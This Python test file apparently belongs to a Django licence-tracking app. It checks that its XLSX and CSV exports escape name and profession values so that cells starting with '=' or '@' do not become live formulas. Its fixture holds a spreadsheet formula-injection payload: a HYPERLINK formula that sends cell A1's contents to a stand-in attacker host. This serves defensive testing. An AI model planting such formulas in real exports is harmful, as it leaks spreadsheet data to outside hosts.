"""The kørekort export never turns a name or a profession into a live formula (issue #15 §5:
"names and professions starting with `=` become live formulas in the kørekort XLSX export")."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from lederspor.licences import services
from lederspor.licences.models import Licence

NAME = '=HYPERLINK("https://angriber.example/?d="&A1;"Klik her")'
PROFESSION = "=1+1"
JOB_TITLE = "@SUM(1+1)"


@pytest.fixture
def task(cast):
    task = services.licence_task_create(
        unit=cast.workplace, title="Måltidet er mere end mad", by=cast.leader.user
    )
    colleague = cast.colleague
    colleague.first_name, colleague.last_name = NAME, ""
    colleague.profession, colleague.job_title = PROFESSION, JOB_TITLE
    colleague.save(update_fields=["first_name", "last_name", "profession", "job_title"])
    Licence.objects.create(
        task=task,
        person=colleague,
        level="A",
        awarded_on=timezone.localdate() - dt.timedelta(days=3),
    )
    return task


def _export(client, task, fmt):
    response = client.get(reverse("licences:licence_task", args=[task.pk]), {"eksport": fmt})
    assert response.status_code == 200
    return response


def test_xlsx_cells_that_start_like_a_formula_are_text(cast, as_, task):
    for response in (
        _export(as_(cast.leader), task, "xlsx"),
        as_(cast.leader).get(reverse("licences:licence_export", args=[task.pk])),
    ):
        sheet = load_workbook(io.BytesIO(response.content)).active  # formulas kept as formulas
        header = [cell.value for cell in sheet[1]]
        [row] = [r for r in sheet.iter_rows(min_row=2) if r[0].value.startswith("=HYPER")]
        cells = dict(zip(header, row, strict=False))
        for column, typed in (("Navn", NAME), ("Faggruppe", PROFESSION), ("Stilling", JOB_TITLE)):
            cell = cells[column]
            assert cell.data_type == "s", (column, cell.data_type)  # never "f" (a formula)
            assert cell.value.strip() == typed  # shown exactly as typed


def test_csv_cells_that_start_like_a_formula_are_escaped(cast, as_, task):
    text = _export(as_(cast.leader), task, "csv").content.decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    header = rows[0]
    [row] = [r for r in rows[1:] if "HYPERLINK" in r[0]]
    cells = dict(zip(header, row, strict=True))
    assert cells["Navn"].strip() == "'" + NAME
    assert cells["Faggruppe"] == "'" + PROFESSION
    assert cells["Stilling"] == "'" + JOB_TITLE
    assert not any(value.startswith(("=", "+", "-", "@")) for r in rows for value in r)
